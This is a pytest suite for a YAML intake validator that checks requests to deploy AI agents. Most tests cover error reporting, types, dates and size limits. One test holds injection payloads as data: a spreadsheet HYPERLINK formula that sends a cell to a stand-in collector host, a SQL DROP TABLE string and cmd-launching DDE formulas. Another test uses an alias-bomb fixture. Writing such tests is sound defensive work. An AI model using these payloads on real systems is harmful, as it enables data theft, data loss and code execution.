"""Requests as files: what is read, what is refused, and in which words."""

import time
import tracemalloc
from pathlib import Path

import pytest
import yaml

from approvals.rules.content import FIELDS, Type, answer
from approvals.rules.intake import (
    MAX_BYTES,
    Intake,
    check_content,
    read_yaml,
    size_fault,
    write_yaml,
)

DATA = Path(__file__).parent.parent / "data" / "requests"
EXAMPLES = sorted(DATA.glob("*.yaml"))
HEAD = (
    "agent_metadata:\n  name: A name\n  business_owner: b@x.example\n"
    "  technical_owner: t@x.example\n"
)


def read(name: str) -> Intake:
    return read_yaml((DATA / "bad" / name).read_bytes())


def told(intake: Intake) -> dict[str, tuple[str, int | None]]:
    return {fault.path: (fault.code, fault.line) for fault in intake.faults}


def codes(text: str | bytes) -> list[str]:
    data = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
    return [fault.code for fault in read_yaml(data).faults]


@pytest.mark.parametrize("file", EXAMPLES, ids=lambda f: f.stem)
def test_an_example_is_read_without_fault_and_says_what_the_file_says(file: Path):
    intake = read_yaml(file.read_bytes())
    assert intake.faults == () and intake.unknown == ()
    plain = yaml.safe_load(file.read_text())
    for field in FIELDS:
        if field.type in (Type.YES_NO, Type.WHOLE_NUMBER, Type.TEXTS, Type.TEXT, Type.MONEY):
            given_ = answer(plain, field.path)
            assert answer(intake.content, field.path) == given_


@pytest.mark.parametrize("file", EXAMPLES, ids=lambda f: f.stem)
def test_an_example_is_written_and_read_back_as_the_same_content(file: Path):
    content = read_yaml(file.read_bytes()).content
    assert read_yaml(write_yaml(content).encode()).content == content


def test_a_written_file_looks_like_the_examples():
    text = write_yaml(read_yaml((DATA / "tier4-vendor-payments.yaml").read_bytes()).content)
    for line in (
        "    error_rate_critical: 0.005",
        "  proposed_production_date: '2027-06-01'",
        "      value: '250.00'",
        "  financial_transactions: true",
        "    - invoice-matcher",
    ):
        assert f"\n{line}\n" in text
    assert "sub_agents: []" in write_yaml({"agent_capabilities": {"sub_agents": []}})


def test_a_syntax_error_is_told_with_line_column_and_the_line_shown():
    (fault,) = read("01-yaml-syntax-error.yaml").faults
    assert fault.code == "yaml.not_yaml"
    assert (fault.line, fault.column, fault.shown) == (3, 12, '  version: "0.9.3')
    assert "not valid YAML" in fault.text and "Traceback" not in fault.text


def test_a_wrong_bracket_is_told_where_it_stands():
    (fault,) = read_yaml(HEAD.encode() + b"  systems: [a, b}\n").faults
    assert (fault.code, fault.line, fault.column) == ("yaml.not_yaml", 5, 17)


@pytest.mark.parametrize(
    ("text", "line"),
    [("  ä: ö\n  version: \x07\n", 6), ("\tversion: 1\n", 5), ("  version: a: b\n", 5)],
)
def test_a_syntax_error_is_told_with_the_line_it_is_in(text: str, line: int):
    (fault,) = read_yaml((HEAD + text).encode()).faults
    assert (fault.code, fault.line) == ("yaml.not_yaml", line)
    assert fault.shown.strip() and fault.shown.isprintable()


def test_misspelled_keys_are_named_with_what_was_meant_and_their_values_are_kept():
    intake = read("02-unknown-and-misspelled-keys.yaml")
    assert {(key.path, key.meant, key.line) for key in intake.unknown} == {
        ("agent_metadata.tecnical_owner", "technical_owner", 6),
        ("monitoring_plan.metrics_trackd", "metrics_tracked", 125),
        ("deployment_wishes", "", 129),
    }
    assert "Did you mean technical_owner?" in intake.unknown[0].text
    assert intake.content["deployment_wishes"]["preferred_weekday"] == "Tuesday"
    again = read_yaml(write_yaml(intake.content).encode())
    assert again.content == intake.content
    assert told(intake) == {"agent_metadata.technical_owner": ("answer.missing", 1)}


def test_a_known_key_in_the_wrong_place_is_told_its_right_one():
    (key,) = read_yaml(HEAD.encode() + b"  regulated_data: true\n").unknown
    assert key.meant == "agent_capabilities.regulated_data"


def test_wrong_types_are_told_all_at_once_with_what_was_found_and_expected():
    intake = read("03-wrong-types.yaml")
    risk = "security_assessment.risk_assessment[0]"
    wrong = "answer.wrong_type"
    assert told(intake) == {
        "business_justification.success_metrics": (wrong, 10),
        "business_justification.estimated_monthly_interactions": (wrong, 11),
        "agent_capabilities.tools_requested": (wrong, 14),
        "agent_capabilities.regulated_data": (wrong, 22),
        "agent_capabilities.autonomy_limits.daily_budget": (wrong, 34),
        f"{risk}.risk": (wrong, 54),
        f"{risk}.likelihood": (wrong, 57),
        f"{risk}.impact": (wrong, 58),
        f"{risk}.mitigation": ("answer.row_part_missing", 59),
        f"{risk}.residual_likelihood": (wrong, 60),
        "monitoring_plan.alert_thresholds": (wrong, 74),
    }
    texts = " ".join(fault.text for fault in intake.faults)
    assert "found the text “probably”, expected yes or no" in texts
    assert "found the number 40, expected a sum with value and currency" in texts


@pytest.mark.parametrize("word", ["probably", "'true'", "1", "y", "TRUEISH", "[true]", "0.0"])
def test_what_is_neither_yes_nor_no_never_becomes_one(word: str):
    text = f"agent_capabilities:\n  regulated_data: {word}\n"
    value = answer(read_yaml(text.encode()).content, "agent_capabilities.regulated_data")
    assert not isinstance(value, bool)
    assert "answer.wrong_type" in codes(text)


@pytest.mark.parametrize("word", ["true", "True", "yes", "on"])
def test_yes_is_yes(word: str):
    intake = read_yaml(f"{HEAD}agent_capabilities:\n  regulated_data: {word}\n".encode())
    assert intake.content["agent_capabilities"] == {"regulated_data": True}
    assert intake.faults == ()


def test_missing_and_blank_owners_are_named_in_the_words_of_the_form():
    intake = read("04-missing-owners.yaml")
    assert [fault.text for fault in intake.faults] == [
        "“Business owner”: not answered.",
        "“Technical owner”: not answered.",
    ]
    assert [fault.line for fault in intake.faults] == [1, 4]


def test_impossible_dates_are_named_with_their_question():
    intake = read("05-impossible-date.yaml")
    assert told(intake) == {
        "agent_metadata.proposed_production_date": ("answer.impossible_date", 6),
        "security_assessment.kill_switch_tested_on": ("answer.impossible_date", 91),
    }
    assert "no 2027-02-30 in the calendar" in intake.faults[0].text


@pytest.mark.parametrize("text", ["2027-2-3", "tomorrow", "2027-02-15T10:00:00Z", "20270215", "７"])
def test_a_date_in_another_form_is_told_the_form(text: str):
    text = f"{HEAD}  proposed_production_date: {text}\n"
    assert codes(text) == ["answer.wrong_type"]


def test_three_mebibytes_are_refused_by_size_before_anything_is_parsed():
    data = b"agent_metadata:\n  name: " + b"The same sentence again. " * 126_000
    tracemalloc.start()
    begun = time.perf_counter()
    (fault,) = read_yaml(data).faults
    assert time.perf_counter() - begun < 0.1
    assert tracemalloc.get_traced_memory()[1] < 100_000
    tracemalloc.stop()
    assert fault.text == ("The file has 3.0 MiB; at most 256 KiB are accepted. It was not read.")


def test_the_largest_file_is_read_and_one_byte_more_is_not():
    filler = HEAD.encode() + b"#" * (MAX_BYTES - len(HEAD))
    assert read_yaml(filler).faults == ()
    (fault,) = read_yaml(filler + b"#").faults
    assert fault.code == "yaml.too_big" and "has 257 KiB; at most 256 KiB" in fault.text
    assert size_fault(MAX_BYTES) is None


def test_an_alias_bomb_is_refused_at_once_and_memory_stays_flat():
    data = (DATA / "bad" / "07-alias-bomb.yaml").read_bytes()
    tracemalloc.start()
    begun = time.perf_counter()
    intake = read_yaml(data)
    assert time.perf_counter() - begun < 1
    assert tracemalloc.get_traced_memory()[1] < 2_000_000
    tracemalloc.stop()
    assert [fault.code for fault in intake.faults] == ["yaml.anchor", "yaml.alias"]
    assert "Aliases are not accepted" in intake.faults[1].text
    assert sum(len(fault.text) for fault in intake.faults) < 300


def test_markup_and_formulas_are_only_text_and_come_back_unchanged():
    intake = read("08-markup-and-formula.yaml")
    assert intake.faults == ()
    name = answer(intake.content, "agent_metadata.name")
    assert name == '=HYPERLINK("https://collector.example/?x="&A1,"Claims Guide")'
    rollback = answer(intake.content, "security_assessment.rollback_design")
    assert rollback == "'); DROP TABLE approvals_request; -- switch off"
    assert answer(intake.content, "monitoring_plan.human_review_triggers")[:2] == [
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
    ]
    assert read_yaml(write_yaml(intake.content).encode()).content == intake.content


def test_the_plain_template_loads():
    intake = read_yaml((DATA / "plain-template.yaml").read_bytes())
    assert intake.faults == ()
    assert answer(intake.content, "monitoring_plan.alert_thresholds") == {
        "error_rate_critical": "0.06",
        "latency_p95_ms": "9000",
    }


def test_a_version_stays_the_text_that_was_written():
    intake = read_yaml(f"{HEAD}  version: 1.0\n".encode())
    assert answer(intake.content, "agent_metadata.version") == "1.0"


def test_windows_line_ends_and_a_byte_order_mark_change_nothing():
    data = b"\xef\xbb\xbf" + EXAMPLES[1].read_bytes().replace(b"\n", b"\r\n")
    assert read_yaml(data).content == read_yaml(EXAMPLES[1].read_bytes()).content


def test_two_tools_of_one_name_are_a_fault():
    row = "    - {name: t, permissions: p}\n"
    text = f"{HEAD}agent_capabilities:\n  tools_requested:\n{row}{row}"
    assert codes(text) == ["answer.twice"]


def test_a_file_with_hundreds_of_faults_lists_the_first_and_counts_the_rest():
    keys = "".join(f"  k{n}: 1\n" for n in range(5_000))
    risks = "security_assessment:\n  risk_assessment:\n" + "    - {likelihood: 9}\n" * 100
    intake = read_yaml((HEAD + keys + risks).encode())
    assert (len(intake.faults), intake.more) == (200, 400)
    assert intake.faults[0].code == "answer.out_of_range"
    assert len(intake.unknown) == 200


def test_the_form_is_held_to_the_same_rules_as_a_file():
    content = {
        "agent_metadata": {"name": "x" * 121, "proposed_production_date": "2027-02-30"},
        "agent_capabilities": {"regulated_data": "yes", "writes_data": 1},
        "monitoring_plan": {"alert_thresholds": {"a": 0.5}},
        "extra": {"deep": 1.5},
    }
    assert [(fault.code, fault.path) for fault in check_content(content)] == [
        ("answer.too_long", "agent_metadata.name"),
        ("answer.impossible_date", "agent_metadata.proposed_production_date"),
        ("answer.wrong_type", "agent_capabilities.regulated_data"),
        ("answer.wrong_type", "agent_capabilities.writes_data"),
        ("answer.wrong_type", "monitoring_plan.alert_thresholds.a"),
        ("answer.wrong_type", "extra"),
    ]


def test_the_form_cannot_send_what_is_nested_too_deep():
    deep: list[object] = []
    for _level in range(5_000):
        deep = [deep]
    assert [fault.code for fault in check_content({"extra": deep})] == ["yaml.too_deep"]


def test_a_vast_number_is_a_number_out_of_range_and_ratings_say_their_scale():
    head = HEAD + "security_assessment:\n  risk_assessment:\n  - risk: Leak\n    mitigation: m\n"
    rates = "    impact: 1.5\n    residual_likelihood: 1\n    residual_impact: 1\n"
    text = head + "    likelihood: 99999999999999999999\n" + rates
    words = " ".join(fault.text for fault in read_yaml(text.encode()).faults)
    assert "found 99999999999999999999, expected 1 to 5" in words
    assert "found the number 1.5, expected a whole number from 1 to 5" in words
